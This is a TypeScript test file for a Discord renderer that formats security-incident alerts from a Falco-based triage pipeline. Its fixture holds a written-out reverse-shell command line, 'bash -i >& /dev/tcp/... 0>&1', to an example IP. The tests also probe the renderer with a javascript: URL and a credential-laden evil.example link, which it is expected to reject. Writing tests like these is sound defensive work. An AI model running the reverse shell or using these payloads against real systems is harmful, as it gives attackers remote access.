import type { MessageCreateOptions, MessageEditOptions } from 'discord.js';
import { describe, expect, it } from 'vitest';
import { renderIncidentMessage } from '../../../src/handlers/render/incidentMessage.js';
import { severityColor } from '../../../src/handlers/render/severityColor.js';
import type { TriageResult } from '../../../src/pipeline/triage/types.js';
import { HUGE_CMDLINE, expectWithinDiscordLimits, worstTriage } from './fixtures.js';

function triage(overrides: Partial<TriageResult> = {}): TriageResult {
  return {
    source: 'falco',
    rule: 'Reverse shell',
    severity: 'high',
    route: 'block-egress',
    target: { node: 'ip-10-0-12-34.ap-northeast-2.compute.internal', namespace: 'prod', pod: 'web-7d9f', container: 'app' },
    ioc: { ip: '203.0.113.45', port: 4444 },
    dedupeKey: 'falco-0123456789abcdef0123456789abcdef01234567',
    steps: ['deny-egress', 'record-incident', 'report'],
    time: '2026-11-20T03:14:07.123Z',
    context: { user: 'root', proc: 'bash', parent: 'nc', cmdline: 'bash -i >& /dev/tcp/203.0.113.45/4444 0>&1' },
    warnings: [],
    ...overrides,
  };
}

const fieldMap = (m: ReturnType<typeof renderIncidentMessage>) => new Map(m.embeds[0]?.fields?.map((f) => [f.name, f.value]));

describe('renderIncidentMessage', () => {
  it('shows [SEVERITY] rule, where, who, what, the IoC, the plan, the status; footer has the incident and dedupe key', () => {
    const m = renderIncidentMessage({ incidentId: 'inc-42', triage: triage(), status: 'running', repeats: undefined, executionName: 'exec-1' });
    const embed = m.embeds[0];
    expect(m.embeds).toHaveLength(1);
    expect(embed?.title).toBe('[HIGH] Reverse shell');
    expect(embed?.color).toBe(severityColor('high'));
    const f = fieldMap(m);
    expect(f.get('Status')).toContain('Running');
    expect(f.get('Route')).toBe('`block-egress`');
    expect(f.get('Node')).toBe('`ip-10-0-12-34.ap-northeast-2.compute.internal`');
    expect(f.get('Namespace')).toBe('`prod`');
    expect(f.get('Pod')).toBe('`web-7d9f`');
    expect(f.get('Container')).toBe('`app`');
    expect(f.get('User')).toBe('`root`');
    expect(f.get('Command line')).toBe('```\nbash -i >& /dev/tcp/203.0.113.45/4444 0>&1\n```');
    expect(f.get('IoC')).toBe('`203.0.113.45:4444`');
    expect(f.get('Plan')).toBe('deny-egress → record-incident → report');
    expect(f.get('Execution')).toBe('exec-1');
    expect(embed?.footer?.text).toBe('incident inc-42 · falco-0123456789abcdef0123456789abcdef01234567');
    expect(embed?.timestamp).toBe('2026-11-20T03:14:07.123Z');
    expect(m.allowedMentions).toEqual({ parse: [] });
    expectWithinDiscordLimits(m);
  });

  it('counts repeats: "seen N times since …" with Discord timestamps', () => {
    const first = new Date('2026-11-20T01:00:00Z');
    const m = renderIncidentMessage({ incidentId: 'inc-1', triage: triage(), status: 'done', repeats: { count: 7, firstSeen: first, lastSeen: '2026-11-20T03:00:00Z' } });
    const repeats = fieldMap(m).get('Repeats');
    expect(repeats).toContain(`seen 7 times since <t:${first.getTime() / 1000}:f>`);
    expect(repeats).toContain(`last <t:${Date.parse('2026-11-20T03:00:00Z') / 1000}:R>`);
    expect(fieldMap(m).get('Status')).toContain('Done');
  });

  it('shows each status', () => {
    const statuses = ['running', 'awaiting-approval', 'done', 'failed'] as const;
    const shown = statuses.map((status) => fieldMap(renderIncidentMessage({ incidentId: 'i', triage: triage(), status, repeats: undefined })).get('Status'));
    expect(new Set(shown).size).toBe(4);
    expect(shown[1]).toMatch(/approval/i);
    expect(shown[3]).toMatch(/fail/i);
  });

  it('links the execution only to an http(s) console URL without credentials', () => {
    const ok = renderIncidentMessage({ incidentId: 'i', triage: triage(), status: 'running', repeats: undefined, executionName: 'e', consoleUrl: 'https://console.aws.amazon.com/states/home#/v2/executions/details/arn(x)' });
    expect(fieldMap(ok).get('Execution')).toBe('[e](https://console.aws.amazon.com/states/home#/v2/executions/details/arn%28x%29)');
    for (const consoleUrl of ['javascript:alert(1)', 'https://user:pass@evil.example/', 'not a url']) {
      const m = renderIncidentMessage({ incidentId: 'i', triage: triage(), status: 'running', repeats: undefined, executionName: 'e', consoleUrl });
      expect(fieldMap(m).get('Execution')).toBe('e');
    }
  });

  it('respects every limit with worst-case input (100 KB command line, 300-char rule, emoji, hostile text)', () => {
    const m = renderIncidentMessage({
      incidentId: `inc-${'x'.repeat(500)}`,
      triage: worstTriage(),
      status: 'awaiting-approval',
      repeats: { count: 1e9, firstSeen: new Date(0), lastSeen: new Date() },
      executionName: 'e'.repeat(500),
      consoleUrl: `https://console.aws.amazon.com/${'p'.repeat(5000)}`,
    });
    expectWithinDiscordLimits(m);
    const embed = m.embeds[0];
    expect(embed?.title?.startsWith('[CRITICAL] ')).toBe(true);
    expect(embed?.title?.endsWith('…')).toBe(true);
    const cmd = fieldMap(m).get('Command line') ?? '';
    expect(cmd.startsWith('```\n')).toBe(true);
    expect(cmd.endsWith('\n```')).toBe(true);
    expect(cmd.length).toBeLessThan(HUGE_CMDLINE.length);
    // The most important fields survive the squeeze.
    for (const name of ['Status', 'Route', 'IoC', 'Node', 'Namespace', 'Pod']) expect(fieldMap(m).has(name), name).toBe(true);
  });

  it('is usable as MessageCreateOptions and MessageEditOptions', () => {
    const m = renderIncidentMessage({ incidentId: 'i', triage: triage(), status: 'running', repeats: undefined });
    const create: MessageCreateOptions = m;
    const edit: MessageEditOptions = m;
    expect(create.allowedMentions).toEqual({ parse: [] });
    expect(edit.components).toEqual([]);
  });
});
